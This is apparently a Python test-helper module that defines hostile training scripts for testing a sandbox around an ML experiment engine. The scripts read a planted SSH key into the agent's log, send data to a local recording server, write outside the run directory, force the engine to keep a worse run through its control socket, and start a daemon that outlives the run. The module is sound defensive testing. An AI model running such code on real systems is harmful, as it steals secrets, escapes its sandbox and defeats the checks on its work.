"""A hostile train.py's attacks, one place for every test that tries them:
the local sandbox tests (tests/core/test_sandbox.py) and the same attacks run
on a Ray node (tests/ray/scenarios.py). Each is a `ScriptStep` whose train.py
runs the attack before training: refused, it raises and the run crashes;
let through, it goes on to print its metric."""

from __future__ import annotations

import asyncio
import textwrap
from pathlib import Path

from ar_tui.agents.scripted import ScriptStep

KNOB = "LR = 0.5  # the knob the tests turn\n"
SECRET = "SECRET-KEY-MATERIAL"
PLANTED = "planted by the run\n"
LEFTOVERS_SHARED = ("/tmp/ar-tui-test-leftover", "/dev/shm/ar-tui-test-leftover")


def hostile(description: str, code: str, lr: str = "0.5") -> ScriptStep:
    return ScriptStep(description, KNOB, f"LR = {lr}\n" + textwrap.dedent(code).strip() + "\n")


BETTER = ScriptStep("LR 0.5 -> 0.4", "LR = 0.5", "LR = 0.4")


def make_home(home: Path) -> Path:
    """A home dir holding a key and private notes, as the engine's user has."""
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / ".ssh" / "id_ed25519").write_text(SECRET + "\n")
    (home / "notes.txt").write_text("private notes\n")
    return home


def keep_me(run_dir: Path) -> ScriptStep:
    """Ask the engine, through the run's control socket, to keep this run."""
    return hostile("keep me", f"""
        import json, socket
        client = socket.socket(socket.AF_UNIX)
        client.connect({str(run_dir / "control.sock")!r})
        client.sendall(json.dumps({{"cmd": "force_keep", "id": 1, "exp": None}}).encode() + b"\\n")
        reply = json.loads(client.makefile().readline())
        assert reply["ok"] and reply["result"], reply
    """, lr="5.0")  # far worse than the baseline: only a forced keep keeps it


def write_outside(path: Path) -> ScriptStep:
    """Append a line to `path` (unless it is in the run's own working dir)."""
    return hostile(f"write {path.name}", f"""
        import os
        path = {str(path)!r}
        if os.getcwd() != os.path.dirname(path):
            with open(path, "a") as handle:
                handle.write({PLANTED!r})
    """)


def read_files(*paths: Path) -> ScriptStep:
    """Print the files into the log, which the agent reads."""
    return hostile(f"read {', '.join(p.name for p in paths)}",
                   "\n".join(f"print(open({str(p)!r}).read())" for p in paths))


def read_secret(home: Path) -> ScriptStep:
    return read_files(home / ".ssh" / "id_ed25519", home / "notes.txt")


def phone_home(port: int) -> ScriptStep:
    """TCP and UDP to a server on 127.0.0.1 (recording_server)."""
    return hostile("phone home", f"""
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"exfiltrated")
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfiltrated", ("127.0.0.1", {port}))
    """)


async def recording_server() -> tuple[asyncio.AbstractServer, int, list[bytes]]:
    """A TCP server on 127.0.0.1 that records what each connection sends."""
    connections: list[bytes] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connections.append(await reader.read(100))
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    return server, server.sockets[0].getsockname()[1], connections


# Leave files everywhere a run can write, then look for them in the next run:
# LEAVE_FILES is worse than the baseline (discarded), FIND_LEFTOVERS better
# (kept), unless it finds one, and then it crashes.
LEAVE_FILES = hostile("leave files", f"""
    import os, pathlib, tempfile
    pathlib.Path("leftover.txt").write_text("x")
    pathlib.Path("cache.ignored").write_text("x")
    pathlib.Path(tempfile.gettempdir(), "leftover").write_text("x")
    pathlib.Path(os.path.expanduser("~"), "leftover").write_text("x")
    for shared in {LEFTOVERS_SHARED!r}:
        try:
            pathlib.Path(shared).write_text("x")
        except OSError:
            pass  # not writable at all: nothing left there either
""", lr="0.6")
FIND_LEFTOVERS = ScriptStep("look for them", "LR = 0.5", textwrap.dedent(f"""\
    LR = 0.4
    import os, pathlib, tempfile
    places = ["leftover.txt", "cache.ignored", os.path.join(tempfile.gettempdir(), "leftover"),
              os.path.join(os.path.expanduser("~"), "leftover"), *{LEFTOVERS_SHARED!r}]
    found = [p for p in places if os.path.exists(p)]
    if found:
        raise SystemExit(f"found what the last run left: {{found}}")
"""))

DAEMON = """
    import os, subprocess, sys
    # Double fork and a new session: out of the run's process group, re-parented away from it.
    if os.fork() == 0:
        os.setsid()
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{mark}"],
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        os._exit(0)
    os.wait()
    import time
    time.sleep(0.5)  # the daemon is running
"""


def start_daemon(mark: str) -> ScriptStep:
    """A process that tries to outlive the run, its command line holding `mark`."""
    return hostile("daemon", DAEMON.format(mark=mark))
